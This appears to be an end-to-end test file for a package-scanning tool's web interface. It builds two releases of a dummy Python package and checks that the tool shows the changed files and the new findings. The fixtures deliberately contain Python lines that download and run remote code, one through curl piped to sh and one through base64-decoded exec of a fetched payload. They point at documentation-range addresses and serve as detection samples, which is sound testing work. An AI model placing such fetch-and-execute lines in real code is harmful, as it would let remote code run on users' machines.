import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { WebHost } from "../../main/web/start-web-host.ts";
import { buildTar, gzip } from "../support/tar-builder.ts";
import { assertNoComplaints, launchBrowser } from "./support/browser.ts";
import { makeScratch, type Scratch, startHost, WorkbenchPage } from "./support/workbench.ts";

/** Two releases of one project: what the second brought is found by keys alone. Inert; addresses are of the documentation range. */
const FETCH = 'import os\nos.system("curl http://192.0.2.30/next | sh")\n';

function release(version: string, files: Readonly<Record<string, string>>): Uint8Array {
	const all = {
		"PKG-INFO": `Metadata-Version: 2.1\nName: tree-frog\nVersion: ${version}\n`,
		"setup.py": "from setuptools import setup\nsetup(name='tree-frog', packages=['tree'])\n",
		...files,
	};
	return gzip(
		buildTar(Object.entries(all).map(([path, content]) => ({ name: `tree-frog-${version}/${path}`, content }))),
	);
}

const first = release("1.0", { "tree/__init__.py": "", "tree/old.py": FETCH, "tree/same.py": "LEAF = 1\n" });
const second = release("1.1", {
	"tree/__init__.py": "from . import added\n",
	"tree/old.py": FETCH,
	"tree/same.py": "LEAF = 1\n",
	"tree/added.py":
		'import base64\nimport urllib.request\nexec(base64.b64decode(urllib.request.urlopen("http://192.0.2.31/p").read()))\n',
});

let browser: Browser;
let scratch: Scratch;
let host: WebHost;
let bench: WorkbenchPage;

beforeAll(async () => {
	browser = await launchBrowser();
	scratch = await makeScratch();
	const files = [join(scratch.folder, "tree-frog-1.0.tar.gz"), join(scratch.folder, "tree-frog-1.1.tar.gz")] as const;
	await writeFile(files[0], first);
	await writeFile(files[1], second);
	host = await startHost({ targets: [...files], stateFolder: join(scratch.folder, "state") });
	bench = await WorkbenchPage.open(browser, host.url);
	await bench.shows("tree-frog-1.0.tar.gz");
	// The other one is fetched in the background.
	await bench.part("package-tab").nth(1).waitFor();
	await bench.press("}");
	await bench.shows("tree-frog-1.1.tar.gz");
	await bench.ready();
});

afterAll(async () => {
	await browser?.close();
	await host?.close();
	await scratch?.remove();
});

/** Names of the files in the explorer, folders left out. */
function files(): Promise<string[]> {
	return bench.part("explorer-tree").locator('[data-kind="member"]').allInnerTexts();
}

describe("the second release of a project", () => {
	it("shows only the files that changed, by one key, opens them by the next, and all of them again", async () => {
		const all = (await files()).length;
		expect(all).toBe(6);
		await bench.press("c");
		await expect.poll(async () => (await files()).length).toBe(3);
		const shown = (await files()).join("\n");
		for (const name of ["PKG-INFO", "__init__.py", "added.py"]) expect(shown).toContain(name);
		expect(shown).not.toContain("same.py");
		expect(shown).not.toContain("old.py");
		// The tree has the focus: what changed is walked through and read.
		await bench.press("End");
		await bench.press("Enter");
		await bench.page.locator(".viv-code .view-line", { hasText: /./ }).first().waitFor();
		const focused = await bench.page.evaluate(() => document.activeElement?.getAttribute("data-testid"));
		expect(focused).toBe("explorer-tree");
		await bench.press("c");
		await expect.poll(async () => (await files()).length).toBe(all);
	});

	it("shows only the findings that are new, by one key, and in changed files by the filter; a report tells the same", async () => {
		const before = await bench.rows();
		await bench.press("Shift+R");
		await bench.part("findings-hidden").getByText("by the filter").waitFor();
		const fresh = await bench.rows();
		expect(fresh.length).toBeGreaterThan(0);
		expect(fresh.length).toBeLessThan(before.length);
		const paths = await bench.part("findings-list").innerText();
		expect(paths).toContain("added.py");
		expect(paths).not.toContain("old.py");

		await bench.press("/");
		await bench.page.keyboard.type("is=changed");
		await bench.press("Enter");
		await expect.poll(async () => (await bench.part("findings-list").innerText()).includes("old.py")).toBe(false);
		expect((await bench.rows()).length).toBeGreaterThan(0);

		await bench.press("Escape");
		await bench.press("Control+e");
		await bench.part("export-filtered").press("Space");
		await bench.part("export-preview").getByText("compared with tree-frog-1.0.tar.gz").waitFor();
		await bench.press("Escape");
		await bench.press("a");
		expect((await bench.rows()).length).toBe(before.length);
	});

	it("compares with nothing once the other release is closed, and says what it would compare with", async () => {
		await bench.press("c");
		await expect.poll(async () => (await files()).length).toBe(3);
		await bench.press("{");
		await bench.shows("tree-frog-1.0.tar.gz");
		await bench.press("Alt+w");
		await bench.shows("tree-frog-1.1.tar.gz");
		await bench.part("explorer").getByText("another release of the project that is open").waitFor();
		expect(await files()).toEqual([]);
		assertNoComplaints(bench.complaints);
	});
});
